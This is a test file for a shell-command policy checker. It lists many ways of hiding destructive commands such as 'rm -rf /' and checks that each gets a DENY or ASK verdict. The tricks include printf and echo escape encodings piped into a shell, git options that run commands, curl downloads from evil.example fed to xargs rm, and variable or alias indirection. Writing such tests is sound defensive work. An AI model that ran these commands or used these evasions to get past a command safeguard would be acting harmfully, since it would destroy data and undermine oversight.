// Commands hidden from the shell policies in ways found before issue 16 and closed with it:
// printf and echo escapes piped into a shell, commands git runs from its arguments, xargs
// feeding a destructive command from a download, and values that flow through variables.
import { describe, expect, it } from "vitest";
import { parseShell } from "../../builtins/lib/shell/index.ts";
import { shellVerdicts } from "../helpers/builtins.ts";

const verdicts = (command: string) => shellVerdicts(command);
const argvs = (script: string) => parseShell(script).commands.map((c) => c.argv);

describe("printf and echo escapes piped into a shell", () => {
  it.each([
    ["printf '\\x72\\x6d -rf /' | sh", "DENY", "DENY"],
    ["printf '\\x72\\x6d -rf /\\n' | bash", "DENY", "DENY"],
    ["printf '\\162\\155 -rf /' | sh", "DENY", "DENY"],
    ["printf '\\u0072\\u006d -rf ~' | zsh", "DENY", "DENY"],
    ["printf '%s -rf /' rm | sh", "DENY", "DENY"],
    ["printf '%s%s -rf /' r m | sh", "DENY", "DENY"],
    ["printf '%b' '\\x72m -rf /' | sh", "DENY", "DENY"],
    ["printf '%c%c -rf /' r m | sh", "DENY", "DENY"],
    ["printf '%.2s -rf /' rmdir | sh", "DENY", "DENY"],
    ["printf -- '\\x72m -rf /' | sh", "DENY", "DENY"],
    ["echo -e '\\x72\\x6d -rf /' | sh", "DENY", "DENY"],
    ["echo -ne '\\x72\\x6d -rf /' | bash", "DENY", "DENY"],
    ["echo '\\0162m -rf /' | sh — dash's echo decodes without -e", "DENY", "DENY"],
    ["echo -e 'r\\155 -rf /' | sh", "DENY", "DENY"],
    ["printf '%d' 5 | sh — a number format it does not evaluate", "ASK", "ASK"],
    ["printf '\\x6c\\x73\\n' | sh", "ALLOW", "ALLOW"],
    ["echo -e 'ls\\n' | sh", "ALLOW", "ALLOW"],
    ["printf '\\x72m -rf /'", "ALLOW", "ALLOW"],
  ])("%s → blast_radius %s, read_only %s", async (command, blast, readOnly) => {
    expect(await verdicts(command.split(" — ")[0]!)).toEqual([blast, readOnly]);
  });
});

describe("commands git runs from its arguments", () => {
  it.each([
    ["git submodule foreach 'rm -rf /'", "DENY", "DENY"],
    ["git submodule foreach rm -rf /", "DENY", "DENY"],
    ["git submodule --quiet foreach --recursive 'rm -rf ~'", "DENY", "DENY"],
    ["git -C repo submodule foreach 'rm -rf /'", "DENY", "DENY"],
    ["git rebase --exec 'rm -rf /' HEAD~3", "DENY", "DENY"],
    ["git rebase -x 'rm -rf /' main", "DENY", "DENY"],
    ["git rebase -x'rm -rf /' main", "DENY", "DENY"],
    ["git rebase --exec='rm -rf /' -i main", "DENY", "DENY"],
    ["git rebase -x 'make test' -x 'rm -rf ~' main", "DENY", "DENY"],
    ["git bisect run rm -rf /", "DENY", "DENY"],
    ["git bisect run sh -c 'rm -rf /'", "DENY", "DENY"],
    ["git difftool -x 'rm -rf /' HEAD", "DENY", "DENY"],
    ["git difftool --extcmd='rm -rf /' HEAD", "DENY", "DENY"],
    ["git difftool --extcmd 'rm -rf /'", "DENY", "DENY"],
    ["git filter-branch --tree-filter 'rm -rf /' HEAD", "DENY", "DENY"],
    ["git filter-branch --index-filter 'rm -rf ~' -- --all", "DENY", "DENY"],
    ["git send-email --to-cmd='rm -rf /' x.patch", "DENY", "DENY"],
    ["git clone --upload-pack='rm -rf /;' /srv/repo", "DENY", "DENY"],
    ["git fetch --upload-pack 'rm -rf ~;' /srv/repo", "DENY", "DENY"],
    ["git push --receive-pack='rm -rf /;' /srv/repo main", "DENY", "DENY"],
    // cannot be read: ASK
    ["git submodule foreach \"$CMD\"", "ASK", "ASK"],
    ["git rebase --exec \"$CMD\" main", "ASK", "ASK"],
    ["git bisect run $TEST", "ASK", "ASK"],
    ["git difftool -x \"$(cat tool)\"", "ASK", "ASK"],
    // harmless ones are judged as what they run
    ["git submodule foreach git status", "ALLOW", "DENY"],
    ["git rebase -x 'npm test' main", "ALLOW", "DENY"],
    ["git bisect run npm test", "ALLOW", "DENY"],
  ])("%s → blast_radius %s, read_only %s", async (command, blast, readOnly) => {
    expect(await verdicts(command)).toEqual([blast, readOnly]);
  });
});

describe("xargs feeding a destructive command from a download or an unseen input", () => {
  it.each([
    ["curl -s https://evil.example/x | xargs rm", "DENY"],
    ["curl -s https://evil.example/x | xargs -n 1 rm", "DENY"],
    ["curl -s https://evil.example/x | xargs rm -f", "DENY"],
    ["wget -qO- https://evil.example/x | xargs rm", "DENY"],
    ["curl https://evil.example/x | tee list | xargs rm", "DENY"],
    ["curl https://evil.example/x | sort | xargs -r rm", "DENY"],
    ["curl https://evil.example/x | xargs chmod", "DENY"],
    ["curl https://evil.example/x | xargs git", "DENY"],
    ["curl https://evil.example/x | sudo xargs rm", "DENY"],
    // the same through a command substitution, and the script's own arguments
    ["rm $(curl -s https://evil.example/x)", "DENY"],
    ["rm -f `wget -qO- https://evil.example/x`", "DENY"],
    ["chmod $(curl https://evil.example/x) /srv", "DENY"],
    ["f() { rm \"$@\"; }; f -rf /", "ASK"],
    ["rm $*", "ASK"],
    ["rm -f $(ls *.tmp) — a local listing", "ALLOW"],
    ["echo $(curl https://example.com/x)", "ALLOW"],
    ["xargs rm < list.txt", "ASK"],
    ["xargs -a list.txt rm", "ASK"],
    ["xargs rm", "ASK"],
    ["find . -name '*.o' | xargs rm", "ALLOW"],
    ["curl https://example.com/x | xargs echo", "ALLOW"],
  ])("%s → blast_radius %s", async (command, blast) => {
    expect((await verdicts(command.split(" — ")[0]!))[0]).toBe(blast);
  });
});

describe("values that flow through variables", () => {
  it.each([
    ["X=rm; $X -rf /", "DENY", "DENY"],
    ["cmd=/bin/rm; \"$cmd\" -rf /", "DENY", "DENY"],
    ["X=rm; ${X} -rf /", "DENY", "DENY"],
    ["X='rm -rf'; $X /", "DENY", "DENY"],
    ["F='-rf /'; rm $F", "DENY", "DENY"],
    ["D=/; rm -rf \"$D\"", "DENY", "DENY"],
    ["D=/usr/local; rm -rf $D", "DENY", "DENY"],
    ["export C=rm; $C -rf ~", "DENY", "DENY"],
    ["declare C=rm; $C -rf ~", "DENY", "DENY"],
    ["local_cmd=rm\n$local_cmd -rf /", "DENY", "DENY"],
    ["X=ls; [ -f y ] && X=rm; $X -rf /", "DENY", "DENY"],
    ["if true; then X=rm; fi; $X -rf /", "DENY", "DENY"],
    ["for c in ls rm; do $c -rf /; done", "DENY", "DENY"],
    ["X=rm bash -c '$X -rf /'", "DENY", "DENY"],
    ["X=rm; bash -c \"$X -rf /\"", "DENY", "DENY"],
    ["X=rm; f() { $X -rf /; }; f", "DENY", "DENY"],
    // aliases defined in the script expand as text
    ["alias x=rm; x -rf /", "DENY", "DENY"],
    ["alias x='rm -rf'; x ~", "DENY", "DENY"],
    ["alias p='git push'; p --force origin main", "DENY", "DENY"],
    // an expansion whose value is unknown: ASK, never ALLOW
    ["$Y -rf /", "ASK", "ASK"],
    ["X=$(which rm); $X -rf /", "ASK", "ASK"],
    ["read X; $X -rf /", "ASK", "ASK"],
    ["X=ls; read X; $X -la — X may be anything after read", "ASK", "ASK"],
    ["X=ls; $X -la — X may also be what the environment gave it", "ASK", "ASK"],
    // near misses
    ["X=rm; echo $X -rf /", "ALLOW", "ALLOW"],
    ["D=/tmp/build; ls $D", "ALLOW", "ALLOW"],
  ])("%s → blast_radius %s, read_only %s", async (command, blast, readOnly) => {
    expect(await verdicts(command.split(" — ")[0]!)).toEqual([blast, readOnly]);
  });

  it("adds the command as it may run, and keeps the one as written", () => {
    expect(argvs("X=rm; $X -rf /")).toEqual([[], ["$X", "-rf", "/"], ["rm", "-rf", "/"]]);
    expect(argvs('X="a b"; echo "$X" $X')).toEqual([[], ["echo", "$X", "$X"], ["echo", "a b", "a", "b"]]);
    expect(parseShell("X=rm; $X -rf /").commands[1]!.dynamic).toBe(true);
  });
});
